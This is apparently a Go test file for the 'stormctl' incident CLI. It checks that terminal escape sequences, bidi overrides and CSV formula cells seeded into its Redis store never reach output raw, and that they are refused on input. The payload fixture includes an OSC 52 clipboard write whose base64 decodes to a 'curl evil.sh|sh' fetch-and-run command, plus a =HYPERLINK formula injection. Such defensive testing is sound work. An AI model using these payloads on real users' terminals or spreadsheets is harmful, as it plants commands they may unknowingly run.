package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/goccy/go-yaml"

	"github.com/stormctl/stormctl/actions"
	"github.com/stormctl/stormctl/controlplane"
	"github.com/stormctl/stormctl/internal/config"
	"github.com/stormctl/stormctl/internal/exit"
	"github.com/stormctl/stormctl/journal"
	"github.com/stormctl/stormctl/lever"
)

// hostile is what someone with Redis write access can leave for the next
// responder: clear the screen, set the window title (OSC 0), write the
// clipboard (OSC 52), an 8-bit CSI and a bidi override.
const hostile = "amplification\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\u009b8m\u202eok"

// forbidden are the bytes that must reach no output stream.
var forbidden = []string{"\x1b", "\x07", "\u009b", "\u202e"}

func assertSafe(t *testing.T, what, out string) {
	t.Helper()
	for _, b := range forbidden {
		if i := strings.Index(out, b); i >= 0 {
			t.Errorf("%s: %q at byte %d: %q", what, b, i, out[max(i-20, 0):min(i+20, len(out))])
		}
	}
}

// seedHostile writes the payload straight into the control plane, past
// every input check: a lever's reason and actor, a journal note, an
// incident title.
func seedHostile(t *testing.T, e *actionEnv) {
	t.Helper()
	ctx := context.Background()
	s, err := controlplane.Open(ctx, config.Redis{URL: e.env["STORMCTL_REDIS_URL"], Namespace: "cli"}, func(string) string { return "" })
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	actor := "mal\x1b[8mlory"
	if _, err := s.Apply(ctx, controlplane.ApplyRequest{Lever: lever.Lever{Kind: lever.Retries, Target: "checkout->payments", Value: "off",
		Actor: actor, Reason: hostile, ExpiresAt: time.Now().Add(10 * time.Minute)}}); err != nil {
		t.Fatal(err)
	}
	inc := actions.Incident{ID: "INC-EVIL", Title: hostile, OpenedBy: actor, OpenedAt: time.Now().UTC()}
	raw, _ := json.Marshal(inc)
	if _, err := s.SwapRecord(ctx, "incidents", inc.ID, "", string(raw),
		journal.Entry{Event: journal.IncidentOpened, Actor: actor, Incident: inc.ID, Reason: hostile, Outcome: "opened"}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Append(ctx, journal.Entry{Event: journal.Note, Actor: actor, Incident: inc.ID,
		Reason: "=HYPERLINK(\"http://evil\")" + hostile, Error: hostile}); err != nil {
		t.Fatal(err)
	}
}

// TestHostileTextReachesNoOutput: with the payload in Redis, no command's
// stdout or stderr carries an escape byte, on a table or in a pipe, while
// -o json still decodes to the exact text.
func TestHostileTextReachesNoOutput(t *testing.T) {
	e := newActionEnv(t)
	seedHostile(t, e)
	dir := t.TempDir()
	pbDir := filepath.Join(dir, "playbooks")
	os.Mkdir(pbDir, 0o755)
	pb := "apiVersion: stormctl/v1\nkind: Playbook\nname: evil\ntitle: \"Evil\\e]0;pwned\\a\\e[2J\"\nsteps:\n  - id: look\n    type: note\n    title: \"look\\e]52;c;eA==\\a\"\n    text: \"read\\e[2Jthis\"\n"
	if err := os.WriteFile(filepath.Join(pbDir, "evil.yaml"), []byte(pb), 0o600); err != nil {
		t.Fatal(err)
	}
	mdFile, csvFile := filepath.Join(dir, "t.md"), filepath.Join(dir, "t.csv")
	runs := [][]string{
		{"status"}, {"status", "-o", "yaml"}, {"journal", "tail"}, {"incident", "list"}, {"action", "list"},
		{"journal", "export", "--format", "md"}, {"journal", "export", "--format", "csv"},
		{"journal", "export", "--format", "md", "--out", mdFile}, {"journal", "export", "--format", "csv", "--out", csvFile},
		{"playbook", "show", "evil", "--playbooks", pbDir}, {"playbook", "list", "--playbooks", pbDir},
		// A conflict quotes the holder's reason on stderr.
		{"retries", "cap", "2", "checkout->payments", "--ttl", "5m", "--reason", "cap", "--yes"},
	}
	for _, tty := range []bool{false, true} {
		for _, args := range runs {
			out, errOut, code := e.runTTY(tty, args...)
			if code != exit.OK && code != exit.Conflict {
				t.Fatalf("%v: exit %d\n%s%s", args, code, out, errOut)
			}
			assertSafe(t, strings.Join(args, " ")+" (stdout)", out)
			assertSafe(t, strings.Join(args, " ")+" (stderr)", errOut)
		}
	}
	for _, file := range []string{mdFile, csvFile} {
		b, _ := os.ReadFile(file)
		assertSafe(t, file, string(b))
		if !bytes.Contains(b, []byte(`\u001b]52;c;`)) {
			t.Errorf("%s does not show the payload as text:\n%s", file, b)
		}
	}
	f, _ := os.Open(csvFile)
	rows, err := csv.NewReader(f).ReadAll()
	f.Close()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				t.Errorf("CSV cell %q would run as a formula", c)
			}
		}
	}

	// -o json stays exact: the text decodes to what was stored.
	st, _ := e.expect(exit.OK, "alice", "status", "-o", "json")
	if lv := st["levers"].([]any)[0].(map[string]any); lv["reason"] != hostile || lv["actor"] != "mal\x1b[8mlory" {
		t.Errorf("status -o json: reason %q actor %q", lv["reason"], lv["actor"])
	}
	out, _, _ := e.run("alice", "", "status", "-o", "yaml")
	var sy struct {
		Levers []struct{ Reason, Actor string } `yaml:"levers"`
	}
	if err := yaml.Unmarshal([]byte(out), &sy); err != nil || len(sy.Levers) != 1 || sy.Levers[0].Reason != hostile {
		t.Errorf("status -o yaml does not decode to the exact text: %v %+v\n%s", err, sy, out)
	}
	out, _, _ = e.run("alice", "", "incident", "list", "-o", "json")
	assertSafe(t, "incident list -o json", out)
	var incs []map[string]any
	if err := json.Unmarshal([]byte(out), &incs); err != nil || len(incs) != 1 || incs[0]["title"] != hostile {
		t.Errorf("incident list -o json: %v %s", err, out)
	}
	found := false
	for _, en := range e.journalEntries() {
		found = found || en.Error == hostile
	}
	if !found {
		t.Error("journal tail -o json lost the exact text")
	}
}

// TestHostileTextRefusedOnTheWayIn: a reason or an incident title with
// control characters is refused and nothing of it is journaled raw; line
// breaks fold to spaces.
func TestHostileTextRefusedOnTheWayIn(t *testing.T) {
	e := newActionEnv(t)
	_, msg := e.expect(exit.Refused, "alice", "retries", "off", "checkout->payments", "--ttl", "5m", "--reason", hostile, "--yes")
	if !strings.Contains(msg, "refused by the reason guard: reason: control character U+001B at column 14") {
		t.Fatalf("hostile reason: %s", msg)
	}
	assertSafe(t, "refusal", msg)
	_, msg = e.expect(exit.Usage, "alice", "incident", "open", "storm\x1b]0;pwned\x07")
	if !strings.Contains(msg, "incident title: control character U+001B at column 6") {
		t.Fatalf("hostile title: %s", msg)
	}
	// An actor name is refused before anything runs (exit 2), with the
	// character named; nothing is journaled under a name nobody can read.
	_, msg = e.expect(exit.Usage, "mal\x1b]0;x\x07lory", "retries", "off", "checkout->payments", "--ttl", "5m", "--reason", "p99", "--yes")
	if !strings.Contains(msg, `STORMCTL_ACTOR: actor "mal\x1b]0;x\alory": control character U+001B at column 4`) {
		t.Fatalf("hostile actor: %s", msg)
	}
	res, _ := e.expect(exit.OK, "alice", "retries", "off", "checkout->payments", "--ttl", "5m", "--reason", "amplification 4x\nsince 14:02\r\n", "--yes", "-o", "json")
	// release and extend keep a hostile reason only as printable text.
	e.expect(exit.OK, "alice", "action", "extend", res["action_id"].(string), "--ttl", "6m", "--reason", "still\x1b[2J", "--yes")
	es := e.journalEntries()
	if len(es) != 3 || es[0].Reason != `amplification\u001b[2J\u001b[H\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u009b8m\u202eok` ||
		es[1].Reason != "amplification 4x since 14:02" || es[2].Reason != `still\u001b[2J` {
		t.Fatalf("journaled: %+v", es)
	}
}

// TestJSONLExportVerifiesByteForByte: piped, a JSON Lines export is the
// record itself, so it verifies even when an entry holds characters that
// JSON keeps raw (C1, bidi); on a terminal it is shown guarded.
func TestJSONLExportVerifiesByteForByte(t *testing.T) {
	e := newActionEnv(t)
	seedHostile(t, e)
	out, errOut, code := e.runTTY(false, "journal", "export", "--format", "jsonl")
	if code != exit.OK {
		t.Fatalf("export: exit %d: %s", code, errOut)
	}
	file := filepath.Join(t.TempDir(), "journal.jsonl")
	if err := os.WriteFile(file, []byte(out), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, msg := e.expect(exit.OK, "alice", "journal", "verify", "--file", file); msg != "" {
		t.Fatalf("verify of the piped export: %s", msg)
	}
	for _, b := range []string{"\x1b", "\x07"} { // JSON escapes these itself
		if strings.Contains(out, b) {
			t.Errorf("raw %q in the piped export", b)
		}
	}
	tty, _, _ := e.runTTY(true, "journal", "export", "--format", "jsonl")
	assertSafe(t, "journal export --format jsonl on a terminal", tty)
}
